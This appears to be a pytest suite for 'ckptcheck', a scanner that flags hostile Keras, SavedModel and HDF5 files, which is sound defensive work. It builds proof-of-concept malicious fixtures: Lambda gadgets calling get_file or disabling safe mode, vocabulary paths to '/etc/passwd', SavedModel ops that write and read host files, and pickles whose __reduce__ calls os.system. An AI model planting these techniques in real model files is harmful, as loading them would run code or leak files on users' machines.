"""`ckptcheck scan` against the published Keras and TensorFlow model-loading attacks, and against benign files.

Each attack is built as its advisory describes it, with the Keras 3.15 / TensorFlow 2.21 installed here. Wherever
this version acts, the test proves it by loading (a marker file written by a SavedModel op at
``tf.saved_model.load``, a host file read into a layer, a pickle run by ``numpy.load``); where only older Keras
acts, the advisory is cited, and what this Keras does instead (refuse) is checked too. The benign side: the
fixtures, keras.applications models in every Keras format, SavedModels with lookup tables over assets, a tf.data
pipeline that reads nothing outside, and a custom op, all without a warning.
"""

from __future__ import annotations

import io
import json
import os
import pickle
import subprocess
import sys
import textwrap
import zipfile
from pathlib import Path
from typing import Any

import numpy as np
import pytest
from typer.testing import CliRunner

from ckptcheck.cli import app
from ckptcheck.formats.keras import config as keras_config
from ckptcheck.formats.keras import pickle_scan
from ckptcheck.scan import ScanReport, scan_paths

runner = CliRunner()
FIXTURES = Path(__file__).resolve().parents[2] / "fixtures"
REPO = Path(__file__).resolve().parents[2]


def _scan(*paths: Path | str) -> ScanReport:
    return scan_paths([str(p) for p in paths])


def _warnings(report: ScanReport) -> list[str]:
    return [f"{f.location}: {f.message} [{f.rule}/{f.when}]" for file in report.files for f in file.warnings]


def _members(path: Path) -> list[tuple[zipfile.ZipInfo, bytes]]:
    with zipfile.ZipFile(path) as z:
        return [(i, z.read(i)) for i in z.infolist()]


def _write_zip(path: Path, members: list[tuple[str, bytes]]) -> None:
    import warnings

    with warnings.catch_warnings():
        warnings.simplefilter("ignore")  # zipfile warns of a duplicate name: that is the point
        with zipfile.ZipFile(path, "w") as z:
            for name, data in members:
                z.writestr(name, data)


def _with_config(source: Path, target: Path, edit: Any) -> None:
    """``source`` (.keras) with its config.json changed by ``edit(config)``."""
    members = [(i.filename, d) for i, d in _members(source)]
    out = []
    for name, data in members:
        if name == "config.json":
            config = json.loads(data)
            edit(config)
            data = json.dumps(config).encode()
        out.append((name, data))
    _write_zip(target, out)


def _layers(config: dict[str, Any]) -> list[dict[str, Any]]:
    return list(config["config"]["layers"])


# --- Keras configs ----------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def base(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    import keras

    root = tmp_path_factory.mktemp("scan_keras")
    inputs = keras.Input((4,), name="x")
    y = keras.layers.Lambda(keras.activations.relu, name="named_relu")(inputs)  # a Lambda naming a modeling API
    model = keras.Model(inputs, keras.layers.Dense(2, name="d")(y))
    model.save(root / "base.keras")
    text_in = keras.Input((1,), dtype="string")
    lookup = keras.Model(text_in, keras.layers.StringLookup(vocabulary=["a", "b"], name="lookup")(text_in))
    lookup.save(root / "lookup.keras")
    host = root / "host_secret.txt"
    host.write_text("host-secret-line\n")
    return {"root": root, "base": root / "base.keras", "lookup": root / "lookup.keras", "host": host}


def _gadget_lambda(function: dict[str, Any], arguments: dict[str, Any] | None = None) -> Any:
    def edit(config: dict[str, Any]) -> None:
        for layer in _layers(config):
            if layer["class_name"] == "Lambda":
                layer["config"]["function"] = function
                layer["config"]["arguments"] = arguments or {}
    return edit


# (advisory, function config, what the finding must name). Keras 3.0-3.10 resolve these under safe_mode=True;
# Keras 3.11+ (the 3.15 installed here) refuses them, which the test also checks.
GADGETS = [
    ("CVE-2025-8747: keras.utils.get_file fetches a URL at load",
     {"module": "keras.utils", "class_name": "function", "config": "get_file", "registered_name": "get_file"},
     {"fname": "x.txt", "origin": "http://127.0.0.1:9/payload"}, "keras.utils.get_file"),
    ("CVE-2025-9906: keras.config.enable_unsafe_deserialization turns safe mode off",
     {"module": "keras.config", "class_name": "function", "config": "enable_unsafe_deserialization",
      "registered_name": None}, None, "enable_unsafe_deserialization"),
    ("CVE-2025-9906: global_state.set_global_attribute('safe_mode_saving', False)",
     {"module": "keras.src.backend.common.global_state", "class_name": "function",
      "config": "set_global_attribute", "registered_name": None},
     {"name": "safe_mode_saving", "value": False}, "set_global_attribute"),
    ("loads a second file: keras.models.load_model",
     {"module": "keras.models", "class_name": "function", "config": "load_model", "registered_name": None},
     {"filepath": "/tmp/other.keras"}, "keras.models.load_model"),
    ("loads a second file: keras.saving.load_model",
     {"module": "keras.saving", "class_name": "function", "config": "load_model", "registered_name": None},
     None, "keras.saving.load_model"),
    ("a keras.src internal outside the modeling packages",
     {"module": "keras.src.utils.file_utils", "class_name": "function", "config": "extract_open_archive",
      "registered_name": None}, None, "keras.src.utils.file_utils.extract_open_archive"),
    ("decode_predictions downloads its class index",
     {"module": "keras.applications.imagenet_utils", "class_name": "function", "config": "decode_predictions",
      "registered_name": None}, None, "decode_predictions"),
]


@pytest.mark.parametrize(("advisory", "function", "arguments", "named"), GADGETS, ids=[g[0][:40] for g in GADGETS])
def test_keras_gadgets_are_findings_whatever_their_module(base: dict[str, Path], tmp_path: Path, advisory: str,
                                                          function: dict[str, Any], arguments: Any,
                                                          named: str) -> None:
    import keras

    target = tmp_path / "gadget.keras"
    _with_config(base["base"], target, _gadget_lambda(function, arguments))
    with pytest.raises(Exception):  # noqa: B017 - Keras 3.15 refuses each; 3.0-3.10 ran them (the advisory)
        keras.saving.load_model(str(target))
    report = _scan(target)
    found = [w for w in _warnings(report) if named in w]
    assert found and "named_relu" in found[0] and "[keras-gadget/load]" in found[0], _warnings(report)
    if arguments and "origin" in arguments:
        assert "http://127.0.0.1:9/payload" in found[0]  # the Lambda's arguments are named
    assert report.exit_code == 1


def test_a_lambda_naming_a_modeling_function_is_no_finding(base: dict[str, Path]) -> None:
    """The oracle: Keras 3.15 loads it under safe_mode=True (no bytecode, nothing outside the modeling APIs)."""
    import keras

    keras.saving.load_model(str(base["base"]))
    report = _scan(base["base"])
    assert report.exit_code == 0 and not _warnings(report)


def test_hand_written_configs_reach_every_callable() -> None:
    def cfg(*layers: dict[str, Any]) -> dict[str, Any]:
        return {"module": "keras", "class_name": "Functional", "config": {"name": "m", "layers": list(layers)}}

    def msgs(config: dict[str, Any]) -> list[tuple[str, str, str]]:
        return [(f.rule, f.severity, f.message) for f in keras_config.findings_of(config, path="x")]

    # An activation, an initializer and a loss naming gadgets, nested inside a wrapper.
    nested = cfg({"module": "keras.layers", "class_name": "TimeDistributed", "config": {"name": "td", "layer": {
        "module": "keras.layers", "class_name": "Dense", "config": {
            "name": "inner", "units": 1,
            "activation": {"module": "keras.utils", "class_name": "function", "config": "get_file"},
            "kernel_initializer": {"module": "keras.src.saving.saving_lib", "class_name": "function",
                                   "config": "load_model"}}}}})
    rules = msgs(nested)
    assert [r[0] for r in rules] == ["keras-gadget", "keras-gadget"], rules
    assert "keras.utils.get_file" in rules[0][2] and "keras.src.saving.saving_lib.load_model" in rules[1][2]
    # Keras 2 Lambda naming a Keras function: tf_keras resolves it by module + name.
    keras2 = cfg({"class_name": "Lambda", "config": {"name": "l", "function": "get_file", "function_type":
                                                     "function", "module": "tf_keras.utils",
                                                     "arguments": {"origin": "http://h/x"}}})
    assert [r[0] for r in msgs(keras2)] == ["keras-gadget"] and "origin='http://h/x'" in msgs(keras2)[0][2]
    # Modeling APIs in every spelling stay quiet: keras.src ops classes, ConvNeXt's LayerScale, DTypePolicy.
    quiet = cfg({"module": "keras.src.ops.numpy", "class_name": "Add", "config": {"name": "add"}},
                {"module": "keras.src.applications.convnext", "class_name": "LayerScale",
                 "config": {"name": "ls"}, "registered_name": "LayerScale"},
                {"module": "keras.layers", "class_name": "Dense", "config": {
                    "name": "d", "dtype": {"module": "keras", "class_name": "DTypePolicy", "config": {"name": "f"}},
                    "activation": {"module": "keras.activations", "class_name": "function", "config": "gelu"}}})
    assert msgs(quiet) == []
    # A registered custom class is a note (the user's installed code), a system module never is.
    custom = cfg({"module": "my_pkg.layers", "class_name": "Block", "config": {"name": "b"},
                  "registered_name": "my_pkg>Block"})
    assert [(r[0], r[1]) for r in msgs(custom)] == [("custom-object", "note")]
    disguised = cfg({"module": "subprocess", "class_name": "Popen", "config": {"name": "p"},
                     "registered_name": "x>Popen"})
    assert [(r[0], r[1]) for r in msgs(disguised)] == [("module-import", "warning")]


def test_a_lookup_vocabulary_path_reads_the_host_file(base: dict[str, Path], tmp_path: Path) -> None:
    """CVE-2025-12058: StringLookup's vocabulary given as a path is read when the layer is built. Keras < 3.12 did
    so under safe_mode=True; 3.15 refuses under safe mode and, with safe_mode=False, reads the host file into the
    layer, as shown here."""
    import keras

    target = tmp_path / "lookup.keras"

    def edit(config: dict[str, Any]) -> None:
        for layer in _layers(config):
            if layer["class_name"] == "StringLookup":
                layer["config"]["vocabulary"] = str(base["host"])

    _with_config(base["lookup"], target, edit)
    with pytest.raises(Exception):  # noqa: B017 - refused in safe mode
        keras.saving.load_model(str(target))
    loaded = keras.saving.load_model(str(target), safe_mode=False)
    assert "host-secret-line" in [str(t) for t in loaded.get_layer("lookup").get_vocabulary()]
    report = _scan(target)
    found = _warnings(report)
    assert len(found) == 1 and "StringLookup 'lookup'" in found[0] and str(base["host"]) in found[0], found
    assert "[keras-path/load]" in found[0]
    assert not _warnings(_scan(base["lookup"]))  # the list vocabulary Keras wrote


def test_keras_hub_tokenizer_files_are_named() -> None:
    """keras-hub tokenizers read vocabulary / merges / SentencePiece protos from paths (keras-hub is not installed
    here: the finding is checked on the config its tokenizers write)."""
    config = {"module": "keras_hub.src.tokenizers.word_piece_tokenizer", "class_name": "WordPieceTokenizer",
              "config": {"name": "tok", "vocabulary": "/etc/passwd"}, "registered_name": "keras_hub>WordPieceTokenizer"}
    found = [(f.rule, f.message) for f in keras_config.findings_of(config, path="x") if f.severity == "warning"]
    assert found == [("keras-path", "WordPieceTokenizer 'tok' reads its vocabulary from the file '/etc/passwd'")]


# --- SavedModels ------------------------------------------------------------------------------------------------


@pytest.fixture(scope="module")
def saved_models(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Any]:
    """Hostile and benign SavedModels, each built once."""
    import tensorflow as tf

    root = tmp_path_factory.mktemp("scan_tf")
    out: dict[str, Any] = {"root": root}
    marker = root / "written_at_load.txt"
    printed = root / "printed.txt"
    stolen = root / "stolen"
    captured = root / "captured_path.txt"
    out.update(marker=marker, printed=printed, stolen=stolen, captured=captured)
    captured_path = tf.constant(str(captured))  # captured by the function: a constant of the object graph

    class Writer(tf.saved_model.experimental.TrackableResource):  # type: ignore[misc]
        """A resource whose initializer writes a file: tf.saved_model.load runs it."""

        def _create_resource(self) -> Any:
            return tf.raw_ops.VarHandleOp(dtype=tf.int32, shape=[], shared_name="")

        def _initialize(self) -> Any:
            tf.io.write_file(str(marker), "written by the SavedModel")
            return tf.raw_ops.AssignVariableOp(resource=self.resource_handle, value=1)

    class Evil(tf.Module):  # type: ignore[misc]
        def __init__(self) -> None:
            super().__init__()
            self.writer = Writer()
            self.v = tf.Variable(2.0)

        @tf.function(input_signature=[tf.TensorSpec([None], tf.float32)])
        def serve(self, x: Any) -> Any:
            tf.print("a call was here", output_stream="file://" + str(printed))
            tf.print("to stderr: no finding")
            files = tf.io.matching_files(str(root / "*.txt"))
            save = tf.raw_ops.SaveV2(prefix=str(stolen), tensor_names=["x"], shape_and_slices=[""], tensors=[x])
            write = tf.io.write_file(captured_path, "through a captured path")
            with tf.control_dependencies([save, write]):
                data = tf.io.read_file("/etc/hostname")
            return x * self.v + tf.cast(tf.size(files) + tf.strings.length(data), tf.float32)

    evil = Evil()
    tf.saved_model.save(evil, str(root / "evil"), signatures={"serving_default": evil.serve})
    marker.unlink(missing_ok=True)  # saving ran the initializer once; loading is what the test shows

    vocab = root / "vocab.txt"
    vocab.write_text("a\nb\nc\n")
    words = root / "words.txt"
    words.write_text("0123456789")

    class Table(tf.Module):  # type: ignore[misc]
        def __init__(self) -> None:
            super().__init__()
            init = tf.lookup.TextFileInitializer(str(vocab), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
                                                 tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)
            self.table = tf.lookup.StaticHashTable(init, -1)
            self.v = tf.Variable([1.0, 2.0])
            self.words = tf.saved_model.Asset(str(words))  # read by the signature: its own asset

        @tf.function(input_signature=[tf.TensorSpec([None], tf.string)])
        def serve(self, x: Any) -> Any:
            tf.debugging.Assert(tf.size(x) >= 0, [x])
            total = tf.data.Dataset.range(5).map(lambda i: i * 2).reduce(tf.constant(0, tf.int64),
                                                                          lambda a, b: a + b)
            own = tf.cast(tf.strings.length(tf.io.read_file(self.words.asset_path)), tf.int64)
            return self.table.lookup(x) + total + own

    table = Table()
    tf.saved_model.save(table, str(root / "table"), signatures={"serving_default": table.serve})
    vocab.unlink()  # the SavedModel reads its own copies in assets/
    words.unlink()

    # A signature that reads a host file through tf.data, writes a summary and dumps tensors (tfdbg).
    host_lines = root / "host_lines.txt"
    host_lines.write_text("l1\nl2\nl3\n")
    logdir, dump = root / "logs", root / "dump"
    out.update(host_lines=host_lines, logdir=logdir, dump=dump)

    class Io(tf.Module):  # type: ignore[misc]
        @tf.function(input_signature=[tf.TensorSpec([], tf.float32)])
        def serve(self, x: Any) -> Any:
            lines = tf.data.TextLineDataset(str(host_lines)).reduce(tf.constant(0, tf.int64), lambda a, _: a + 1)
            writer = tf.raw_ops.SummaryWriter(shared_name="scan_test_writer")
            create = tf.raw_ops.CreateSummaryFileWriter(writer=writer, logdir=str(logdir), max_queue=1,
                                                        flush_millis=10, filename_suffix=".v2")
            with tf.control_dependencies([create]):
                write = tf.raw_ops.WriteScalarSummary(writer=writer, step=tf.constant(0, tf.int64), tag="x", value=x)
            with tf.control_dependencies([write]):
                flush = tf.raw_ops.FlushSummaryWriter(writer=writer)
            dumped = tf.raw_ops.DebugIdentityV2(input=x, tfdbg_context_id="c", op_name="o",
                                                debug_urls=[f"file://{dump}"])
            # A Python function, called through the process's py_func registry (EagerPyFunc).
            doubled = tf.py_function(lambda v: v * 2.0, [dumped], tf.float32)
            with tf.control_dependencies([flush]):
                return tf.cast(lines, tf.float32) + doubled

    io_module = Io()
    tf.saved_model.save(io_module, str(root / "io"), signatures={"serving_default": io_module.serve})

    # TF1: a main_op that writes a file, run by the loader.
    tf1_marker = root / "written_by_main_op.txt"
    out["tf1_marker"] = tf1_marker
    with tf.Graph().as_default() as graph:
        x = tf.compat.v1.placeholder(tf.float32, [], name="x")
        v = tf.compat.v1.Variable(3.0, name="v")
        y = tf.identity(x * v, name="y")
        main_op = tf.group(tf.io.write_file(str(tf1_marker), "main_op ran"), name="main_op")
        with tf.compat.v1.Session(graph=graph) as sess:
            sess.run(tf.compat.v1.global_variables_initializer())
            builder = tf.compat.v1.saved_model.Builder(str(root / "tf1"))
            sig = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
            builder.add_meta_graph_and_variables(sess, ["serve"], signature_def_map={"serving_default": sig},
                                                 main_op=main_op)
            builder.save()
    # TF1, benign: a lookup table over a vocabulary file the SavedModel keeps as an asset (Estimator exports and
    # feature columns look like this), initialized by the main_op at load.
    tf1_vocab = root / "tf1_vocab.txt"
    tf1_vocab.write_text("a\nb\n")
    with tf.Graph().as_default() as graph:
        x = tf.compat.v1.placeholder(tf.string, [None], name="x")
        init = tf.lookup.TextFileInitializer(str(tf1_vocab), tf.string, tf.lookup.TextFileIndex.WHOLE_LINE,
                                             tf.int64, tf.lookup.TextFileIndex.LINE_NUMBER)
        y = tf.identity(tf.lookup.StaticHashTable(init, -1).lookup(x), name="y")
        with tf.compat.v1.Session(graph=graph) as sess:
            builder = tf.compat.v1.saved_model.Builder(str(root / "tf1_table"))
            sig = tf.compat.v1.saved_model.predict_signature_def({"x": x}, {"y": y})
            builder.add_meta_graph_and_variables(
                sess, ["serve"], signature_def_map={"serving_default": sig},
                assets_collection=tf.compat.v1.get_collection(tf.compat.v1.GraphKeys.ASSET_FILEPATHS),
                main_op=tf.compat.v1.tables_initializer())
            builder.save()
    tf1_vocab.unlink()
    return out


def test_savedmodel_ops_are_found_with_when_they_run(saved_models: dict[str, Any]) -> None:
    import tensorflow as tf

    marker, printed, stolen = saved_models["marker"], saved_models["printed"], saved_models["stolen"]
    loaded = tf.saved_model.load(str(saved_models["root"] / "evil"))
    assert marker.read_text() == "written by the SavedModel"  # the loader acted at load
    assert not printed.exists()
    loaded.signatures["serving_default"](x=tf.constant([1.0]))
    assert "a call was here" in printed.read_text()  # and on a call
    assert Path(str(stolen) + ".index").exists()
    assert saved_models["captured"].read_text() == "through a captured path"
    found = _warnings(_scan(saved_models["root"] / "evil"))
    by_op = {(w.split(": ", 2)[1].split(" ", 1)[0], w.rsplit("/", 1)[1]): w for w in found}
    assert set(by_op) == {("WriteFile", "load]"), ("WriteFile", "call]"), ("PrintV2", "call]"),
                          ("MatchingFiles", "call]"), ("SaveV2", "call]"), ("ReadFile", "call]")}, found
    assert str(marker) in by_op["WriteFile", "load]"] and str(saved_models["captured"]) in by_op["WriteFile", "call]"]
    by_op = {op: w for (op, _when), w in by_op.items() if op != "WriteFile"}
    assert str(printed) in by_op["PrintV2"] and by_op["PrintV2"].endswith("[tf-op/call]")
    assert str(stolen) in by_op["SaveV2"] and "/etc/hostname" in by_op["ReadFile"]
    assert "signature serving_default" in by_op["PrintV2"]


def test_tf_data_summaries_and_debug_dumps(saved_models: dict[str, Any]) -> None:
    import tensorflow as tf

    loaded = tf.saved_model.load(str(saved_models["root"] / "io"))
    assert not saved_models["logdir"].exists() and not saved_models["dump"].exists()
    result = loaded.signatures["serving_default"](x=tf.constant(2.0))["output_0"].numpy()
    assert result == 7.0  # the host file's 3 lines, read through tf.data, + 2x from the Python function
    assert any(saved_models["logdir"].iterdir()) and any(saved_models["dump"].iterdir())
    found = _warnings(_scan(saved_models["root"] / "io"))
    ops = {w.split(": ", 2)[1].split(" ", 1)[0] for w in found}
    assert {"TextLineDataset", "CreateSummaryFileWriter", "WriteScalarSummary", "DebugIdentityV2",
            "EagerPyFunc"} <= ops, found
    assert all(w.endswith("/call]") for w in found)
    assert any(str(saved_models["logdir"]) in w for w in found) and any(str(saved_models["dump"]) in w for w in found)
    # The file name reaches TextLineDataset as the element of the dataset its flat_map function maps over.
    assert any("TextLineDataset" in w and str(saved_models["host_lines"]) in w for w in found), found


def test_a_tf1_main_op_runs_at_load(saved_models: dict[str, Any]) -> None:
    import tensorflow as tf

    tf1_marker = saved_models["tf1_marker"]
    assert not tf1_marker.exists()
    with tf.Graph().as_default(), tf.compat.v1.Session() as sess:
        tf.compat.v1.saved_model.loader.load(sess, ["serve"], str(saved_models["root"] / "tf1"))
    assert tf1_marker.read_text() == "main_op ran"
    found = _warnings(_scan(saved_models["root"] / "tf1"))
    assert len(found) == 1 and "WriteFile" in found[0] and str(tf1_marker) in found[0], found
    assert found[0].endswith("[tf-op/load]")


def test_ordinary_savedmodels_give_no_warning(saved_models: dict[str, Any], tmp_path: Path) -> None:
    """Own-variable Save/Restore, a lookup table over its asset, Assert, tf.print to stderr, a tf.data pipeline
    over tensors, a Keras export: loaded and called, nothing outside is touched, and the scan is quiet."""
    import keras
    import tensorflow as tf

    table = tf.saved_model.load(str(saved_models["root"] / "table"))
    assert table.signatures["serving_default"](x=tf.constant(["b", "z"]))["output_0"].numpy().tolist() == [31, 29]
    with tf.Graph().as_default(), tf.compat.v1.Session() as sess:
        tf.compat.v1.saved_model.loader.load(sess, ["serve"], str(saved_models["root"] / "tf1_table"))
        assert sess.run("y:0", {"x:0": ["b", "q"]}).tolist() == [1, -1]  # read from its own asset copy
    model = keras.Sequential([keras.Input((4,)), keras.layers.Dense(3)])
    model.export(str(tmp_path / "export"), verbose=False)
    report = _scan(saved_models["root"] / "table", saved_models["root"] / "tf1_table", tmp_path / "export")
    assert report.exit_code == 0 and not _warnings(report), _warnings(report)
    assert [f.kind for f in report.files] == ["savedmodel", "savedmodel", "savedmodel"]


@pytest.mark.tf  # its fixture builds with TensorFlow/Keras
def test_a_custom_op_is_a_note_never_a_warning(saved_models: dict[str, Any], tmp_path: Path) -> None:
    """TF Decision Forests' SavedModels call ops TensorFlow does not register (their kernels come from the
    library the user installs). The op is renamed here in a copy of a benign SavedModel."""
    import shutil

    from tensorflow.core.protobuf import saved_model_pb2

    target = tmp_path / "custom"
    shutil.copytree(saved_models["root"] / "table", target)
    proto = saved_model_pb2.SavedModel.FromString((target / "saved_model.pb").read_bytes())
    renamed = 0
    for function in proto.meta_graphs[0].graph_def.library.function:
        for node in function.node_def:
            if node.op == "LookupTableFindV2":
                node.op = "SimpleMLInferenceOpWithHandle"
                renamed += 1
    assert renamed
    (target / "saved_model.pb").write_bytes(proto.SerializeToString())
    report = _scan(target)
    assert report.exit_code == 0 and not _warnings(report)
    notes = [f for f in report.files[0].findings if f.rule == "tf-custom-op"]
    assert notes and notes[0].severity == "note" and "SimpleMLInferenceOpWithHandle" in notes[0].message


def test_tfsmlayer_loads_an_outside_savedmodel(saved_models: dict[str, Any], base: dict[str, Path],
                                               tmp_path: Path) -> None:
    """CVE-2026-1462: a TFSMLayer's filepath names a SavedModel outside the archive, loaded (and initialized) when
    the .keras is. Keras 3.15 refuses it in safe mode; with safe_mode=False the outside SavedModel's initializer
    writes its marker, as shown here."""
    import keras

    outside = saved_models["root"] / "evil"
    layer = keras.layers.TFSMLayer(str(outside), call_endpoint="serving_default")
    saved_models["marker"].unlink(missing_ok=True)
    model = keras.Sequential([keras.Input((), batch_size=None), layer])
    model.save(tmp_path / "tfsm.keras")
    saved_models["marker"].unlink(missing_ok=True)
    with pytest.raises(Exception):  # noqa: B017 - refused in safe mode
        keras.saving.load_model(str(tmp_path / "tfsm.keras"))
    assert not saved_models["marker"].exists()
    keras.saving.load_model(str(tmp_path / "tfsm.keras"), safe_mode=False)
    assert saved_models["marker"].exists()
    found = _warnings(_scan(tmp_path / "tfsm.keras"))
    assert len(found) == 1 and "TFSMLayer" in found[0] and str(outside) in found[0], found


# --- HDF5 that points outside itself ----------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hdf5_files(tmp_path_factory: pytest.TempPathFactory) -> dict[str, Path]:
    import h5py
    import keras

    root = tmp_path_factory.mktemp("scan_h5")
    host = root / "host.bin"
    host.write_bytes(np.arange(4, dtype="<f4").tobytes())
    model = keras.Sequential([keras.Input((2,)), keras.layers.Dense(2, name="d")])
    model.save_weights(root / "clean.weights.h5")
    model.save(root / "clean.keras")
    external = root / "external.weights.h5"
    external.write_bytes((root / "clean.weights.h5").read_bytes())
    with h5py.File(external, "a") as f:
        del f["layers/dense/vars/0"]
        f["layers/dense/vars"].create_dataset("0", shape=(2, 2), dtype="<f4", external=[(str(host), 0, 16)])
    links = root / "links.weights.h5"
    links.write_bytes((root / "clean.weights.h5").read_bytes())
    with h5py.File(links, "a") as f:
        del f["layers/dense/vars/1"]
        f["layers/dense/vars/1"] = h5py.ExternalLink(str(root / "other.h5"), "/bias")
        layout = h5py.VirtualLayout(shape=(4,), dtype="<f4")
        layout[:] = h5py.VirtualSource(str(root / "virtual_source.h5"), "data", shape=(4,))
        f.create_virtual_dataset("vds", layout)
    archive = root / "external.keras"
    _write_zip(archive, [(i.filename, external.read_bytes() if i.filename == "model.weights.h5" else d)
                         for i, d in _members(root / "clean.keras")])
    return {"root": root, "host": host, "clean": root / "clean.weights.h5", "external": external, "links": links,
            "archive": archive, "model": model}  # type: ignore[dict-item]


@pytest.mark.tf  # its fixture builds with TensorFlow/Keras
def test_external_storage_reads_a_host_file(hdf5_files: dict[str, Any]) -> None:
    """CVE-2026-1669: Keras before 3.12.1 / 3.13.2 read weights through h5py, which reads an external dataset's
    values from the host file it names: shown with h5py itself. Keras 3.15 refuses the file."""
    import h5py

    with h5py.File(hdf5_files["external"], "r") as f:
        assert f["layers/dense/vars/0"][()].ravel().tolist() == [0.0, 1.0, 2.0, 3.0]  # the host file's bytes
    with pytest.raises(ValueError, match="external"):
        hdf5_files["model"].load_weights(str(hdf5_files["external"]))
    for path in (hdf5_files["external"], hdf5_files["archive"]):
        found = _warnings(_scan(path))
        assert len(found) == 1 and str(hdf5_files["host"]) in found[0] and "CVE-2026-1669" in found[0], found
        assert "/layers/dense/vars/0" in found[0] and "[hdf5-outside/load]" in found[0]
    inspect = runner.invoke(app, ["inspect", str(hdf5_files["external"])])
    assert inspect.exit_code == 2  # ckptcheck itself still refuses to read it
    scan = runner.invoke(app, ["scan", str(hdf5_files["external"])])
    assert scan.exit_code == 1 and str(hdf5_files["host"]) in scan.stdout


@pytest.mark.tf  # its fixture builds with TensorFlow/Keras
def test_external_links_and_virtual_datasets(hdf5_files: dict[str, Any]) -> None:
    import h5py

    with h5py.File(hdf5_files["links"], "r") as f:
        assert f["layers/dense/vars"].get("1", getlink=True).filename == str(hdf5_files["root"] / "other.h5")
        assert f["vds"].is_virtual
    found = _warnings(_scan(hdf5_files["links"]))
    assert len(found) == 2, found
    assert any("external link" in w and "other.h5" in w for w in found)
    assert any("virtual dataset" in w and "virtual_source.h5" in w for w in found)
    assert not (hdf5_files["root"] / "other.h5").exists()  # nothing was created by following a link
    assert not _warnings(_scan(hdf5_files["clean"]))


# --- the archive ------------------------------------------------------------------------------------------------


class _Opener:
    """Pickles as a call to ``builtins.open(path, "w")``: unpickling creates the file."""

    def __init__(self, path: str) -> None:
        self.path = path

    def __reduce__(self) -> tuple[Any, tuple[str, str]]:
        return (open, (self.path, "w"))


class _System:
    def __reduce__(self) -> tuple[Any, tuple[str]]:
        return (os.system, ("echo never run",))


def test_duplicate_members_and_a_pickle_that_calls(base: dict[str, Path], tmp_path: Path) -> None:
    """The published proof of concept: two members named model.weights.npz, the last a small pickle. Keras reads
    the last (zipfile does) and refuses it (allow_pickle=False); numpy.load(..., allow_pickle=True) runs it, as
    shown here with a pickle that creates a marker file."""
    import keras

    marker = tmp_path / "unpickled"
    payload = pickle.dumps(_Opener(str(marker)), protocol=4)
    weights = io.BytesIO()
    np.savez(weights, np.zeros(2, "f4"))
    members = [(i.filename, d) for i, d in _members(base["base"]) if i.filename != "model.weights.h5"]
    target = tmp_path / "dup.keras"
    _write_zip(target, [*members, ("model.weights.npz", weights.getvalue()), ("model.weights.npz", payload)])
    with zipfile.ZipFile(target) as z:
        taken = z.read("model.weights.npz")
    assert taken == payload  # zipfile, and so Keras, takes the last one
    with pytest.raises(Exception):  # noqa: B017 - Keras refuses the pickle
        keras.saving.load_model(str(target))
    assert not marker.exists()
    np.load(io.BytesIO(taken), allow_pickle=True)
    assert marker.exists()  # what allow_pickle=True does with it
    found = _warnings(_scan(target))
    assert any("2 members named 'model.weights.npz'" in w and "[zip-duplicate/load]" in w for w in found), found
    assert any(f"{open.__module__}.open" in w and "[pickle-callable/load]" in w for w in found), found


def test_pickle_opcodes_are_read_never_run(tmp_path: Path) -> None:
    system = pickle.dumps(_System(), protocol=2)
    assert pickle_scan.callables(system)[0] == [f"{os.system.__module__}.system"]
    for protocol in (0, 2, 4, 5):
        assert pickle_scan.callables(pickle.dumps(_System(), protocol=protocol))[0] == [
            f"{os.system.__module__}.system"]
        arrays = pickle.dumps([np.arange(3), np.float32(1), np.dtype("f4")], protocol=protocol)
        assert pickle_scan.callables(arrays) == ([], None)
    # An object array in an .npz: a pickle after the .npy header, of strings (quiet) or of another class (found).
    from fractions import Fraction

    for values, expected in ((np.array(["a", 1], dtype=object), []),
                             (np.array([Fraction(1, 3)], dtype=object), ["fractions.Fraction"])):
        buf = io.BytesIO()
        np.save(buf, values, allow_pickle=True)
        pickled = pickle_scan.npy_pickle(buf.getvalue())
        assert pickled is not None and pickle_scan.callables(pickled)[0] == expected


# --- damaged archives: one line, never a traceback --------------------------------------------------------------


def _lzma_damaged(source: Path, target: Path) -> None:
    with zipfile.ZipFile(source) as src, zipfile.ZipFile(target, "w") as dst:
        for info in src.infolist():
            method = zipfile.ZIP_LZMA if info.filename == "model.weights.h5" else zipfile.ZIP_STORED
            dst.writestr(info.filename, src.read(info), compress_type=method)
    data = bytearray(target.read_bytes())
    with zipfile.ZipFile(target) as z:
        info = z.getinfo("model.weights.h5")
    start = info.header_offset + 30 + len(info.filename) + 64
    for i in range(start, start + 256):
        data[i] ^= 0x5A
    target.write_bytes(bytes(data))


def _non_utf8_name(source: Path, target: Path) -> None:
    import struct

    _write_zip(target, [*((i.filename, d) for i, d in _members(source)), ("assets/xxxx.txt", b"x")])
    data = bytearray(target.read_bytes())
    for signature, flags_at, name_len_at, name_at in ((b"PK\x03\x04", 6, 26, 30), (b"PK\x01\x02", 8, 28, 46)):
        pos = data.find(signature)
        while pos != -1:
            n = struct.unpack_from("<H", data, pos + name_len_at)[0]
            if bytes(data[pos + name_at : pos + name_at + n]) == b"assets/xxxx.txt":
                data[pos + name_at + 7] = 0xFF  # not UTF-8
                struct.pack_into("<H", data, pos + flags_at, struct.unpack_from("<H", data, pos + flags_at)[0]
                                 | 0x800)  # ... under the UTF-8 flag
            pos = data.find(signature, pos + 4)
    target.write_bytes(bytes(data))


@pytest.mark.parametrize("damage", [_lzma_damaged, _non_utf8_name], ids=["lzma", "non-utf8-name"])
def test_damaged_archives_are_one_line(damage: Any, tmp_path: Path) -> None:
    source = FIXTURES / "keras" / "model.keras"
    target = tmp_path / "damaged.keras"
    damage(source, target)
    with pytest.raises(Exception), zipfile.ZipFile(target) as z:  # noqa: B017 - what zipfile (and Keras) make of it
        for info in z.infolist():
            z.read(info)
    for args in (["verify", str(target)], ["inspect", str(target)], ["manifest", str(target)],
                 ["scan", str(target)]):
        result = runner.invoke(app, args)
        assert result.exit_code in (1, 2), (args, result.output)
        assert ("Traceback" not in result.output and result.exception is None) or isinstance(result.exception,
                                                                                          SystemExit), args
        errors = [line for line in result.stderr.splitlines() if line.startswith("ckptcheck: /")]
        assert args[0] == "verify" or len(errors) == 1, (args, result.stderr)


# --- benign files -----------------------------------------------------------------------------------------------


def test_every_fixture_is_clean() -> None:
    report = _scan(FIXTURES)
    assert report.exit_code == 0 and not _warnings(report)
